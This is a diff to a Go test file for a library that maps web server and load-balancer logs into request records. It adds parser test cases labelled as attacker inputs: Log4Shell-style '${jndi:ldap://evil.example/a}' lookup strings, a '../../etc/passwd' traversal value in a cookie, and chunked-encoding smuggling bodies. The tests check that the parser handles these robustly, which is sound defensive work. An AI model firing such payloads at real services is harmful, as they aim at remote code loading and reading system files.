@@ -115,6 +115,19 @@ func TestLanguage(t *testing.T) {
 		{"body below the limit", "request: {uri: u, body: {field: b, limit: 4}}", `{"u":"/","b":"abc"}`, body, Body{Text: "abc"}},
 		{"body shorter than its length", "request: {uri: u, body: {field: b, length: n}}", `{"u":"/","b":"abc","n":10}`, body, Body{"abc", true}},
 
+		// what an attacker may try
+		{"a scheme that is none", "request: {line: r}", `{"r":"GET ${jndi:ldap://evil.example/a} HTTP/1.1"}`, uri, "${jndi:ldap://evil.example/a}"},
+		{"user information", "request: {uri: u}", `{"u":"http://${jndi:ldap:x}@shop/"}`, uri, "http://${jndi:ldap:x}@shop/"},
+		{"word for hidden in a header that nobody hides", "request: {uri: u, headers: {map: h}}\nhidden: [REDACTED]", `{"u":"/","h":{"Host":"REDACTED"}}`, headers, []Header{{"Host", "REDACTED"}}},
+		{"header that the block has cut", "request: {uri: u, headers: {raw: h, fields: {Cookie: c}}}", `{"u":"/","h":"A: b\r\nCookie: a=b; t=","c":"a=b; t=../../etc/passwd"}`, headers, []Header{{"A", "b"}, {"Cookie", "a=b; t=../../etc/passwd"}}},
+		{"header that is an object", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":{"X":{"a":"${jndi"}}}`, headers, []Header{{"X", `{"a":"${jndi"}`}}},
+		{"options of a list", "request: {uri: u, headers: {fields: {A: {field: h, decode: hex}}}}", `{"u":"/","h":["1","\\x41"]}`, headers, []Header{{"A", "1"}, {"A", "A"}}},
+		{"lists of OTLP", "unwrap: w\nrequest: {uri: u, headers: {prefix: h.}}", `{"w":[{"key":"u","value":{"stringValue":"/"}},{"key":"h.x","value":{"arrayValue":{"values":[{"stringValue":"1"},{"stringValue":"2"}]}}}]}`, headers, []Header{{"x", "1"}, {"x", "2"}}},
+		{"base64 that is cut", "request: {uri: u, body: {field: b, encoding: base64}}", `{"u":"/","b":"YT0xYmN"}`, body, Body{Text: "a=1bc"}},
+		{"what follows the last chunk", "request: {uri: u, body: b, headers: {fields: {Transfer-Encoding: t}}}", `{"u":"/","t":"chunked","b":"0\r\n\r\n&t=x"}`, body, Body{Text: "0\r\n\r\n&t=x"}},
+		{"an extension of a chunk", "request: {uri: u, body: b, headers: {fields: {Transfer-Encoding: t}}}", `{"u":"/","t":"chunked","b":"1;&t=x\r\ny\r\n0\r\n\r\n"}`, body, Body{Text: "1;&t=x\r\ny\r\n0\r\n\r\n"}},
+		{"first header with a space in its name", "request: {uri: u, headers: {raw: h}}", `{"u":"/","h":"X y: z\r\nA: b"}`, headers, []Header{{"A", "b"}, {"X y", "z"}}},
+
 		// args
 		{"args", "args: {q: a, n: b}", `{"a":"x","b":7}`, args, []Arg{{"q", "x"}, {"n", "7"}}},
 		{"args of an object", "args: {o: a}", `{"a":{"id":1,"l":[{"t":"x"},"y"],"n":null}}`, args, []Arg{{"o.id", "1"}, {"o.l.0.t", "x"}, {"o.l.1", "y"}}},
@@ -183,6 +196,8 @@ func TestLines(t *testing.T) {
 		{"ALB", step("alb"), `https 2026-11-20T10:11:12.345678Z app/lb/50dc6c495c0c9188 10.0.0.7:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/a HTTP/1.1" "curl/7.46.0" ECDHE TLSv1.2 arn:aws:x "Root=1-58337281" "www.example.com" "arn:cert" 1 2026-11-20T10:11:12Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`,
 			"GET /a 200 curl/7.46.0"},
 		{"HAProxy", step("haproxy"), `Feb  6 12:14:14 localhost haproxy[14389]: 10.0.0.7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /a HTTP/1.1"`, "10.0.0.7 GET /a 200 "},
+		{"HAProxy's prefix in the request", step("haproxy"), `10.0.0.7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /a&haproxy[1]: HTTP/1.1"`, "10.0.0.7 GET /a&haproxy[1]: 200 "},
+		{"an agent that looks like JSON", "parse:\n  - {field: log, format: json}\n  - {field: log, format: combined}" + request, strings.Replace(combined, `"curl/8 \"x\""`, `"{"`, 1), "10.0.0.7 GET /a 200 {"},
 		{"HAProxy, IPv6", strings.Replace(step("haproxy"), "[remote, client]", "client_ip", 1), `2001:db8::7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /a HTTP/1.1"`, "2001:db8::7 GET /a 200 "},
 		{"HAProxy without captures", step("haproxy"), `10.0.0.7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /a HTTP/1.1"`, "10.0.0.7 GET /a 200 "},
 		{"W3C", "parse: {field: log, format: w3c, columns: c-ip cs-method cs-uri-stem sc-status}\nclient: {address: c-ip}\nrequest: {method: cs-method, path: cs-uri-stem}\nresponse: {status: sc-status}",
@@ -254,7 +269,7 @@ func TestW3CDirectives(t *testing.T) {
 	if got, err := line("b", "/other"); err != nil || got != "/other" {
 		t.Errorf("another tag: got %q, %v", got, err)
 	}
-	if set.InOrder([]byte("#Software:")) || !set.InOrder([]byte("x#Fields: a")) {
+	if set.InOrder("b", []byte("#Software:")) || !set.InOrder("b", []byte("x#Fields: a")) {
 		t.Error("chunks with #Fields: must be mapped in order, and no others")
 	}
 	if got, err := line("a", `1\t/tabs`); err != nil || got != "/tabs" {
@@ -480,8 +495,27 @@ func TestHostileNesting(t *testing.T) {
 		wide = msgp.AppendInt(wide, 7)
 	}
 	var tx Transaction
-	if err := m.Map("t", wide, &tx); err != nil || len(tx.Args) != maxArgs {
+	if err := m.Map("t", wide, &tx); err != nil || len(tx.Args) != maxArgs || !strings.HasSuffix(tx.Args[maxArgs-1].Value, " 7 7") {
 		t.Errorf("%d arguments, %v", len(tx.Args), err)
+	}
+	long := msgp.AppendMapHeader(nil, 1)
+	long = msgp.AppendString(long, "d")
+	long = msgp.AppendMapHeader(long, 1)
+	long = msgp.AppendString(long, strings.Repeat("k", 100_000))
+	long = append(long, wide[3:]...)
+	folded := msgp.AppendMapHeader(nil, 2)
+	folded = msgp.AppendString(msgp.AppendString(folded, "u"), "/")
+	folded = msgp.AppendString(msgp.AppendString(folded, "h"), "GET / HTTP/1.1\r\nA: b\r\n"+strings.Repeat(" c\r\n", 100_000))
+	blocks := parseOne(t, "request: {uri: u, headers: {raw: h}}")
+	start := time.Now()
+	if err := m.Map("t", long, &tx); err != nil {
+		t.Fatal(err)
+	}
+	if err := blocks.Map("t", folded, &tx); err != nil || len(tx.RequestHeaders[0].Value) != 200_001 {
+		t.Fatal(err, len(tx.RequestHeaders))
+	}
+	if d := time.Since(start); d > time.Second {
+		t.Errorf("a long name and a folded header take %v", d)
 	}
 }
 
